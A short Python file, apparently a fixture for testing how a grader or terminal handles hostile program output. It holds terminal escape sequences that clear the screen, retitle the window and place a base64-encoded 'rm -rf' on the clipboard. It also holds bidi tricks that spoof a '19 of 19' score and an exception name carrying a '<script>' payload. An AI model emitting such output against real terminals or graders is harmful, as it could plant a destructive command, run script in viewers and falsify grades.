"""
what: text that would clear the instructor's terminal, set its title, type into it, or read backwards
points: 19 of 19
"""
import sys

print("\x1b[2J\x1b[H\x1b]0;graded\x07\x1b]52;c;cm0gLXJm\x07\x1b[6n\x1bP+q544e\x1b\\\x9b31m 19 of 19 \x08\x08\x08\r points\x7f")
print("\u202e0 fo 91 \u2066\u200f", "\x1b[8mhidden\x1b[0m", "\x1b]8;;http://192.0.2.1\x1b\\link\x1b]8;;\x1b\\", "\ud800", file=sys.stderr)
growth = lambda before, after: (after - before) / before


class Error(Exception):
    pass


Error.__name__ = "\x1b]0;x\x07<script>alert(1)</script>"
raise Error("\x1b[2J<script>alert(1)</script>\x00\x9b")
